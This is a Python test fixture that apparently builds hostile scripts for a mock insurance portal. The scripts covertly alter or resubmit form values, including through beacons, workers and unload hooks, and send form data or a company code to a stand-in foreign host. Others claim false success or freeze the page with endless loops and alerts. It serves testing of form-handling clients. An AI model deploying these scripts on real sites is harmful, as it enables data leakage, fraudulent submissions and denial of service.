"""What the pages of the hostile portal do: scripts that are put at the end of a page of the mock.

Each finds `H` (`PREAMBLE`), which knows the addresses, the numbers, and the words of the mock.
"""

import json
from collections.abc import Mapping

Values = Mapping[str, str | None]  # of fields that are sent otherwise; None: not at all

PREAMBLE = """
H.values = function (changes) {
  var data = new URLSearchParams(new FormData(form));
  Object.entries(changes || {}).forEach(function (one) {
    if (one[1] === null) data.delete(one[0]); else data.set(one[0], one[1]);
  });
  return data;
};
H.FORM = "application/x-www-form-urlencoded";
H.post = function (url, body, headers) {
  return fetch(url, { method: "POST", body: body, headers: headers || {} })
    .then(function (answer) { return answer.json(); });
};
H.busy = function () { layers.alert("系统繁忙，请稍后再试！", layers.ERROR); };
H.busyLater = function () { setTimeout(H.busy, 800); };
H.done = function () { layers.alert("确认投保成功", layers.OK, finish); };
H.hang = function (url) {
  var request = new XMLHttpRequest();
  request.open("GET", url, false);
  request.send();
};
H.atPress = function (act) { portalForm.post = act; };
H.normally = typeof portalForm === "undefined" ? null : portalForm.post;
H.add = function (where, tag, attributes, text) {
  var element = where.createElement(tag);
  Object.assign(element, attributes);
  if (text) element.textContent = text;
  where.body.appendChild(element);
  return element;
};
"""


WITH_ID = """
  var record = document.createElement("input");
  record.type = "hidden"; record.name = "recordId"; record.value = "4711";
  form.appendChild(record);
"""


def at_press(act: str) -> str:
    """Do this in place of sending the form; `form` and `done` are as the page has them."""
    return f"H.atPress(function (form, done) {{ {act} }});"


def beside_press(act: str) -> str:
    """Do this, and send the form as ever."""
    return at_press(f"{act}; H.normally(form, done);")


def changed(values: Values) -> str:
    """Send other values of these fields than the form shows."""
    given = json.dumps(values)
    return at_press(f"H.post(H.confirm, H.values({given})).then(done).catch(H.busy);")


def sent(body: str, url: str = "H.confirm", headers: str = "{}", *, method: str = "POST") -> str:
    """Send this body there, and take the answer for the portal's."""
    return at_press(f"""
      fetch({url}, {{ method: "{method}", body: {body}, headers: {headers} }})
        .then(function (answer) {{ return answer.json(); }}).then(done).catch(H.busy);
    """)


ANOTHER_IN_LIST = at_press(
    "H.post(H.confirm, H.values({ applNo: H.others[form.applNo.value] })).then(done, H.busy);"
)
PENDING_OUTSIDE = at_press("H.post(H.confirm, H.values({ applNo: H.outside })).then(done, H.busy);")
FIELD_WITH_OUTSIDE = at_press(
    "H.post(H.confirm, H.values({ applNos: H.outside })).then(done, H.busy);"
)
NUMBER_TWICE = at_press("""
  var data = H.values(); data.append("applNo", H.outside);
  H.post(H.confirm, data).then(done, H.busy);
""")
MOBILE_TWICE = at_press("""
  var data = H.values(); data.append("contactMobile", "13900000000");
  H.post(H.confirm, data).then(done, H.busy);
""")
NUMBER_IN_QUERY = sent("H.values()", 'H.confirm + "?applNo=" + H.outside')
JSON_BODY = sent(
    "JSON.stringify(Object.fromEntries(H.values()))",
    headers='{ "Content-Type": "application/json" }',
)
JSON_OTHER_MOBILE = sent(
    'JSON.stringify(Object.fromEntries(H.values({ contactMobile: "13900000000" })))',
    headers='{ "Content-Type": "application/json" }',
)
JSON_LIST = sent(
    "JSON.stringify([Object.fromEntries(H.values()), { applNo: H.outside }])",
    headers='{ "Content-Type": "application/json" }',
)
MULTIPART = sent("new FormData(form)")
MULTIPART_OTHER_MOBILE = at_press("""
  var data = new FormData(form); data.set("contactMobile", "13900000000");
  H.post(H.confirm, data).then(done, H.busy);
""")
TEXT_PLAIN = sent("H.values().toString()", headers='{ "Content-Type": "text/plain" }')
BYTES = sent("new TextEncoder().encode(H.values().toString())")
GZIP = at_press("""
  var plain = new Blob([H.values().toString()]).stream();
  var packing = plain.pipeThrough(new CompressionStream("gzip"));
  new Response(packing).arrayBuffer().then(function (packed) {
    var headers = { "Content-Type": H.FORM, "Content-Encoding": "gzip" };
    return H.post(H.confirm, packed, headers);
  }).then(done).catch(H.busy);
""")
STREAM = at_press("""
  fetch(H.confirm, {
    method: "POST", duplex: "half", headers: { "Content-Type": H.FORM },
    body: new Blob([H.values().toString()]).stream()
  }).then(function (answer) { return answer.json(); }).then(done).catch(H.busy);
""")
TO_FOREIGN = sent("H.values()", "H.foreign + H.confirm")
OTHER_PATH = sent("H.values()", '"/hostile/confirm-all"')
BY_GET = sent("undefined", 'H.confirm + "?" + H.values()', method="GET")
BY_PUT = sent("H.values()", method="PUT")
INTO_FRAME = at_press("""
  var frame = H.add(document, "iframe", { name: "answer" });
  form.method = "POST"; form.target = "answer";
  frame.onload = function () {
    var text = frame.contentDocument && frame.contentDocument.body.innerText;
    if (text) done(JSON.parse(text));
  };
  form.submit();
""")
INTO_WINDOW = at_press("""
  form.method = "POST"; form.target = "_blank"; form.submit(); H.busyLater();
""")
AS_TEXT_FORM = at_press("""
  H.add(document, "iframe", { name: "answer" });
  form.method = "POST"; form.target = "answer"; form.enctype = "text/plain"; form.submit();
  H.busyLater();
""")
BY_BEACON = at_press("navigator.sendBeacon(H.confirm, H.values()); H.busyLater();")
BESIDE_BY_BEACON = beside_press("navigator.sendBeacon(H.confirm, H.values())")

TWICE_AT_ONCE = beside_press("H.post(H.confirm, H.values())")
TWICE_SOON = beside_press("""
  var again = JSON.stringify({
    method: "POST", body: H.values().toString(), headers: { "Content-Type": H.FORM }
  });
  window.top.setTimeout("fetch('" + H.confirm + "', " + again + ")", 300)
""")
AGAIN_AT_ANSWER = at_press(
    "H.normally(form, function (answer) { H.post(H.confirm, H.values()); done(answer); });"
)
BEACON_AT_PAGEHIDE = beside_press("""
  var again = H.values();
  window.top.addEventListener("pagehide", function () { navigator.sendBeacon(H.confirm, again); });
  window.addEventListener("pagehide", function () { navigator.sendBeacon(H.confirm, again); })
""")
KEEPALIVE_AT_UNLOAD = beside_press("""
  var again = H.values();
  window.addEventListener("unload", function () {
    fetch(H.confirm, { method: "POST", body: again, keepalive: true });
  });
  window.addEventListener("pagehide", function () {
    fetch(H.confirm, { method: "POST", body: again, keepalive: true });
  })
""")
FETCH_LATER = at_press("""
  fetchLater(H.confirm, { method: "POST", body: H.values(), activateAfter: 400 }); H.busyLater();
""")
FETCH_LATER_BESIDE = beside_press(
    "if (window.fetchLater)"
    " fetchLater(H.confirm, { method: 'POST', body: H.values(), activateAfter: 1500 })"
)


def in_worker(worker: str, body: str = "H.values()", *, tries: int = 1) -> str:
    """Let a worker send this, while the page says that the portal is busy."""
    order = f"{{ url: H.confirm, body: {body}.toString(), type: H.FORM, tries: {tries} }}"
    port = {
        "worker": 'new Worker("/hostile/worker.js")',
        "nested": 'new Worker("/hostile/nested.js")',
        "shared": 'new SharedWorker("/hostile/shared.js").port',
    }[worker]
    return at_press(f"{port}.postMessage({order}); H.busyLater();")


SERVICE_WORKER = at_press("""
  navigator.serviceWorker.register("/hostile/service.js", { scope: "/hostile/" })
    .then(function (made) {
      var worker = made.installing || made.waiting || made.active;
      worker.postMessage({ url: H.confirm, body: H.values().toString(), type: H.FORM, tries: 1 });
    }, function () {});
  H.busyLater();
""")
SHARED_WORKER_BEFORE = f"""
  var shared = window.SharedWorker && new SharedWorker("/hostile/shared.js").port;
  {
    at_press('''
    var order = { url: H.confirm, body: H.values().toString(), type: H.FORM, tries: 9 };
    if (shared) shared.postMessage(order);
    H.busyLater();
  ''')
}
"""
HOME_LISTENS = """
  new BroadcastChannel("hostile").onmessage = function (told) {
    fetch(H.confirm, { method: "POST", body: told.data, headers: { "Content-Type": H.FORM } });
  };
"""
TELL_HOME = at_press("""
  new BroadcastChannel("hostile").postMessage(H.values().toString()); H.busyLater();
""")
POPUP = at_press("""
  window.open("/hostile/sender#" + encodeURIComponent(H.values())); H.busyLater();
""")
BLANK_WINDOW = at_press("""
  var blank = window.open("about:blank");
  blank.fetch(location.origin + H.confirm, { method: "POST", body: H.values() }); H.busyLater();
""")
SRCDOC_FRAME = at_press("""
  var order = JSON.stringify(H.values().toString());
  H.add(document, "iframe", { srcdoc: "<script>fetch('" + location.origin + H.confirm +
    "', { method: 'POST', headers: { 'Content-Type': '" + H.FORM + "' }, body: " + order +
    " })<\\/script>" });
  H.busyLater();
""")
TWIN_FRAME = at_press("""
  H.add(document, "iframe", { src: H.twin + "/hostile/sender?to=/hostile/confirm#" +
    encodeURIComponent(H.values()) });
  H.busyLater();
""")
FOREIGN_FRAME = at_press("""
  H.add(document, "iframe", { src: H.foreign + "/hostile/sender?to=/hostile/confirm#" +
    encodeURIComponent(H.values()) });
  H.busyLater();
""")
BY_QUERY = '"/hostile/confirm?applNo=" + form.applNo.value'
PREFETCH = at_press(f"""
  H.add(document, "link", {{ rel: "prefetch", href: {BY_QUERY} }}); H.busyLater();
""")
IMAGE = at_press(f"new Image().src = {BY_QUERY}; H.busyLater();")


def speculation(kind: str) -> str:
    """Let the browser fetch ahead, or build ahead, the address that confirms."""
    return at_press(f"""
      var rule = {{ source: "list", urls: [{BY_QUERY}], eagerness: "immediate" }};
      H.add(window.top.document, "script", {{ type: "speculationrules" }},
        JSON.stringify({{ {kind}: [rule] }}));
      H.busyLater();
    """)


LINK_PING = at_press(f"""
  H.add(document, "a", {{ href: "javascript:;", ping: {BY_QUERY} }}, "查看").click(); H.busyLater();
""")
DOWNLOAD = at_press(f"""
  H.add(document, "a", {{ href: {BY_QUERY}, download: "x" }}, "下载").click(); H.busyLater();
""")
SOCKET = at_press("""
  var socket = new WebSocket(H.socket);
  socket.onopen = function () { socket.send(JSON.stringify(Object.fromEntries(H.values()))); };
  H.busyLater();
""")
SOCKET_BEFORE = f"""
  var socket = new WebSocket(H.socket);
  {
    at_press('''
    socket.send(JSON.stringify(Object.fromEntries(H.values()))); H.busyLater();
  ''')
}
"""
SOCKET_IN_WORKER = at_press("""
  new SharedWorker("/hostile/shared.js").port.postMessage({
    socket: H.socket, body: JSON.stringify(Object.fromEntries(H.values()))
  });
  H.busyLater();
""")

ON_TICK = "form.agree.addEventListener('change', function () { H.post(H.confirm, H.values()); });"
ON_BLUR = """
  form.remarks.addEventListener("focusout", function () {
    if (form.remarks.value) H.post(H.confirm, H.values());
  });
"""
ON_OPENING = "H.post(H.confirm, H.values());"
ON_LISTING = """
  H.listed.forEach(function (number) {
    H.post(H.confirm, new URLSearchParams({ applNo: number }));
  });
"""

SAYS_DONE = at_press("H.done();")
SAYS_BUSY_THOUGH_SENT = at_press("H.post(H.confirm, H.values()).finally(H.busy);")

BEACON_AT_CLICK = """
  document.addEventListener("click", function () {
    navigator.sendBeacon("/hostile/beacon", "click");
  }, true);
"""
FOREIGN_BEACON_AT_CLICK = BEACON_AT_CLICK.replace(
    '"/hostile/beacon"', 'H.foreign + "/hostile/beacon?uscc=" + H.uscc'
)
BEACON_WITH_NUMBER = BEACON_AT_CLICK.replace('"click")', "H.values())")
HEARTBEAT = 'setInterval(function () { H.post("/hostile/alive", "alive"); }, 200);'
HEARTBEAT_OF_WORKER = """
  new SharedWorker("/hostile/shared.js").port.postMessage({ every: 200, url: "/hostile/alive" });
"""
RECONNECTING = """
  function connect() {
    var socket = new WebSocket(H.socket + "?short");
    socket.onopen = function () { socket.send('{"still": "here"}'); };
    socket.onclose = function () { setTimeout(connect, 20); };
  }
  for (var count = 0; count < 6; count += 1) connect();
"""
TOKEN = at_press("""
  fetch("/hostile/token").then(function (answer) { return answer.text(); }).then(function (token) {
    return H.post(H.confirm, H.values(), { "X-Token": token });
  }).then(done).catch(H.busy);
""")
CHECKS_FIELDS = """
  form.addEventListener("focusout", function (event) {
    H.post("/hostile/check", new URLSearchParams([[event.target.name, event.target.value]]));
  });
"""

HANG_ON_LOAD = 'H.hang("/hostile/never");'
HANG_AT_PRESS = at_press(HANG_ON_LOAD)
HANG_AFTER_ANSWER = at_press(f"H.normally(form, function () {{ {HANG_ON_LOAD} }});")
HANG_AFTER_PRESS = 'H.hang("/hostile/never-after-a-press");'
ALERTS = "for (;;) alert('系统繁忙');"
ALERTS_AT_PRESS = at_press(ALERTS)
ALERTS_AFTER_ANSWER = at_press(f"H.normally(form, function () {{ {ALERTS} }});")
ENDLESS = "for (;;) {}"
ENDLESS_AT_PRESS = at_press(ENDLESS)
ENDLESS_AFTER_ANSWER = at_press(f"H.normally(form, function () {{ {ENDLESS} }});")


def when_read(act: str) -> str:
    """Do this as soon as somebody's script reads a text of the page; people's eyes do not."""
    return f"""
      Object.defineProperty(HTMLElement.prototype, "innerText", {{
        get: function () {{ {act} return this.textContent; }}
      }});
    """


GROWING = at_press("""
  H.normally(form, function () {
    setInterval(function () { H.add(document, "p", {}, "广告".repeat(50)); }, 1);
  });
""")

WORKERS = {  # name of the file: what it holds
    "worker.js": "onmessage = function (order) { send(order.data); };",
    "nested.js": """
      var inner = new Worker("/hostile/worker.js");
      onmessage = function (order) { inner.postMessage(order.data); };
    """,
    "shared.js": """
      onconnect = function (event) {
        event.ports[0].onmessage = function (order) { send(order.data); };
      };
    """,
    "service.js": "self.onmessage = function (order) { send(order.data); };",
}
SENDING = """
function send(order) {
  if (order.socket) {
    var socket = new WebSocket(order.socket);
    socket.onopen = function () { socket.send(order.body); };
  } else if (order.every) {
    setInterval(function () { fetch(order.url, { method: "POST", body: "alive" }); }, order.every);
  } else {
    fetch(order.url, { method: "POST", body: order.body, headers: { "Content-Type": order.type } })
      .catch(function () {
        order.tries -= 1;
        if (order.tries > 0) setTimeout(function () { send(order); }, 300);
      });
  }
}
"""
SENDER_PAGE = """<!DOCTYPE html><script>
  var to = new URLSearchParams(location.search).get("to") || CONFIRM;
  fetch(to, {
    method: "POST", body: decodeURIComponent(location.hash.slice(1)),
    headers: { "Content-Type": "application/x-www-form-urlencoded" }
  });
</script>"""
